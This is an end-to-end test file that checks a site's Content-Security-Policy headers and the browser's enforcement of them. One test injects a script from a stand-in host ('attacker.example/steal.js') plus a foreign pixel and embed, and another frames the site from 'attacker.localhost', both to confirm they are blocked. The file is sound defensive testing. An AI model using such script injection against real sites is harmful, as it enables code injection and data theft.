/**
 * The Content-Security-Policy (issue 13, headers): every kind of response carries its policy,
 * public pages stay prerendered with it, the browser enforces it, and the site works under it.
 * (Every spec fails on a CSP violation: tests/helpers/test.ts. So the pages, forms, map, Studio
 * and admin of the other specs all run under the policy too.)
 */
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { APIResponse, Page, Response } from '@playwright/test'
import { E2E_ENV, E2E_PORT } from '../helpers/e2e-env'
import { configureIntegrations } from '../helpers/first-visit'
import { expect, test } from '../helpers/test'

const SITE = `http://127.0.0.1:${E2E_PORT}`

/** The policy of a response, as a map from directive to its sources. */
function policyOf(response: APIResponse | Response | null): Map<string, string[]> {
  const header = response?.headers()['content-security-policy']
  expect(header, `${response?.url()} has a Content-Security-Policy`).toBeTruthy()
  return new Map(
    header!.split(';').map((directive) => {
      const [name, ...sources] = directive.trim().split(/\s+/)
      return [name!, sources]
    }),
  )
}

/** Waits until React has hydrated the element, so the page's scripts ran. */
const hydrated = (page: Page, selector: string) =>
  page.waitForFunction((selector) => {
    const element = document.querySelector(selector)
    return !!element && Object.keys(element).some((key) => key.startsWith('__reactFiber'))
  }, selector)

test.describe('Content-Security-Policy', () => {
  test('every kind of response carries the policy of its kind', async ({ request }) => {
    // Public pages (prerendered, ISR, the 404): the site itself and the hosts of the analytics and
    // chat the CMS may switch on, no plugins, no foreign form targets, framed only by the site and
    // its preview hosts.
    const GA = ['https://*.googletagmanager.com']
    const CHAT = ['https://embed.tawk.to', 'https://*.tawk.to', 'https://cdn.jsdelivr.net']
    for (const path of ['/', '/services/seo', '/blogs/pwa-vs-native-app', '/no-such-page']) {
      const response = await request.get(path)
      const policy = policyOf(response)
      expect(policy.get('default-src'), path).toEqual(["'self'"])
      expect(policy.get('script-src'), path).toEqual(["'self'", "'unsafe-inline'", ...GA, ...CHAT])
      expect(policy.get('img-src')!.slice(0, 3), path).toEqual(["'self'", 'data:', 'blob:'])
      expect(policy.get('connect-src'), path).toEqual([
        "'self'",
        'https://*.google-analytics.com',
        'https://*.analytics.google.com',
        'https://*.googletagmanager.com',
        'https://*.tawk.to',
        'wss://*.tawk.to',
      ])
      expect(policy.get('object-src'), path).toEqual(["'none'"])
      expect(policy.get('base-uri'), path).toEqual(["'self'"])
      expect(policy.get('form-action'), path).toEqual(["'self'", 'https://checkout.stripe.com'])
      expect(policy.get('frame-ancestors'), path).toEqual(["'self'", SITE, 'preview.localhost:*'])
      // The e2e site is served over plain http: no upgrade (see web/http/content-security-policy.ts).
      expect(policy.has('upgrade-insecure-requests'), path).toBe(false)
      // The baseline headers stay.
      expect(response.headers()['x-content-type-options'], path).toBe('nosniff')
    }
    expect((await request.get('/no-such-page')).status()).toBe(404)

    // With the policy on, public pages are still served from the prerendered cache.
    await request.get('/services')
    const services = await request.get('/services')
    expect(services.headers()['x-nextjs-cache']).toMatch(/HIT|STALE/)
    expect(policyOf(services).get('script-src')!.slice(0, 2)).toEqual(["'self'", "'unsafe-inline'"])

    // JSON: the site's API, the lead function (also its errors) and the admin API.
    const json = [
      await request.get('/api/search?q=seo'),
      await request.post('/functions/v1/enhanced-crm-automation', {
        headers: { 'content-type': 'application/json' },
        data: '{not json',
      }),
      await request.get('/api/admin/leads'),
    ]
    expect(json.map((response) => response.status())).toEqual([200, 400, 401])
    for (const response of json) {
      expect(policyOf(response).get('default-src'), response.url()).toEqual(["'none'"])
      expect(policyOf(response).get('frame-ancestors'), response.url()).toEqual(["'none'"])
    }

    // The Studio: Sanity's API over HTTP and websocket.
    const studio = policyOf(await request.get('/studio'))
    expect(studio.get('connect-src')).toEqual(
      expect.arrayContaining(["'self'", 'https://api.sanity.io', 'wss://local0000.api.sanity.io']),
    )
    expect(studio.get('object-src')).toEqual(["'none'"])

    // The admin: a fresh nonce per request and no inline scripts.
    const nonces = new Set<string>()
    for (let i = 0; i < 2; i++) {
      const admin = policyOf(await request.get('/admin/leads'))
      const [self, nonce, strictDynamic] = admin.get('script-src')!
      expect([self, strictDynamic]).toEqual(["'self'", "'strict-dynamic'"])
      expect(nonce).toMatch(/^'nonce-[A-Za-z0-9+/]+=*'$/)
      nonces.add(nonce!)
      expect(admin.get('frame-ancestors')).toEqual(["'none'"])
    }
    expect(nonces.size).toBe(2)
  })

  test('analytics and chat hosts are allowed before and after the CMS switches them on: no build needed', async ({
    request,
  }) => {
    const hosts = async () => {
      const policy = policyOf(await request.get('/contact'))
      return {
        analytics: policy.get('script-src')!.includes('https://*.googletagmanager.com'),
        chat: policy.get('connect-src')!.includes('wss://*.tawk.to'),
      }
    }
    expect(await hosts()).toEqual({ analytics: true, chat: true })
    const restore = await configureIntegrations(request)
    try {
      // The page now loads them (first-visit.e2e.spec.ts drives them), under the same policy.
      expect(await hosts()).toEqual({ analytics: true, chat: true })
    } finally {
      await restore()
    }
  })

  test('a page hydrates under the policy, and the browser enforces it', async ({
    page,
    cspViolations,
  }) => {
    const response = await page.goto('/contact')
    expect(policyOf(response).get('script-src')).toContain("'unsafe-inline'")
    await hydrated(page, 'header')

    // What an injected script from elsewhere, a plugin or a foreign image would try: blocked.
    await page.evaluate(() => {
      const script = document.createElement('script')
      script.src = 'https://attacker.example/steal.js'
      document.body.append(script)
      const embed = document.createElement('embed')
      embed.src = '/og.png'
      document.body.append(embed)
      const image = new Image()
      image.src = 'https://attacker.example/pixel.gif'
    })
    await expect
      .poll(() => cspViolations.map((violation) => violation.match(/\b[a-z]+-src\b/)?.[0]))
      .toEqual(expect.arrayContaining(['script-src', 'object-src', 'img-src']))
    cspViolations.splice(0)
  })

  test('only the site and its preview hosts may show a page in a frame', async ({
    page,
    cspViolations,
  }) => {
    // Another site on this machine that frames /services. (A real server: Chromium does not let
    // a page it cannot place on the network frame a loopback address.)
    const framing = createServer((_, response) => {
      response.setHeader('content-type', 'text/html')
      response.end(`<iframe src="${SITE}/services" width="800" height="600"></iframe>`)
    })
    await new Promise<void>((resolve) => framing.listen(0, '127.0.0.1', resolve))
    const { port } = framing.address() as AddressInfo
    const heading = page.frameLocator('iframe').getByRole('heading', { level: 1 })
    try {
      // Chromium sends *.localhost to loopback: a preview host, then any other host.
      await page.goto(`http://preview.localhost:${port}/`)
      await expect(heading).toHaveText('Services')
      expect(cspViolations).toEqual([])

      await page.goto(`http://attacker.localhost:${port}/`)
      await expect.poll(() => cspViolations.join('\n')).toMatch(/frame-ancestors/)
      await expect(heading).toHaveCount(0)
      cspViolations.splice(0)
    } finally {
      framing.close()
    }
  })

  test('the admin runs only scripts that carry its nonce, and works', async ({ page }) => {
    const response = await page.goto('/admin/leads')
    const nonce = policyOf(response)
      .get('script-src')!
      .find((source) => source.startsWith("'nonce-"))!
      .slice("'nonce-".length, -1)
    // Next put the request's nonce on each of its scripts (the DOM hides it from attributes).
    const scripts = await page
      .locator('script')
      .evaluateAll((elements) => elements.map((element) => (element as HTMLScriptElement).nonce))
    expect(scripts.length).toBeGreaterThan(0)
    expect(new Set(scripts)).toEqual(new Set([nonce]))
    await hydrated(page, 'form')

    await page.getByLabel('Admin token').fill(E2E_ENV.ADMIN_TOKEN!)
    await page.getByRole('button', { name: 'Sign in' }).click()
    await expect(page.getByRole('button', { name: 'Sign out' })).toBeVisible()
  })
})
